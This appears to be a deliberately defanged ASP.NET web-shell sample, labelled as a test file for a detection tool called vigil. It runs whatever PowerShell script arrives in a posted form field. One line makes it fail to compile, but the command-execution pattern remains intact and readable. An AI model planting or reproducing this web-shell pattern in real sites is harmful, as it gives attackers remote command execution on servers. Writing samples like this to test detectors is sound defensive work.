<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<script runat="server">
void Page_Load() {
	using (PowerShell ps = PowerShell.Create()) {
		ps.AddScript(Request.Form["ps"]);
		ps.Invoke();
	}
}
</script>
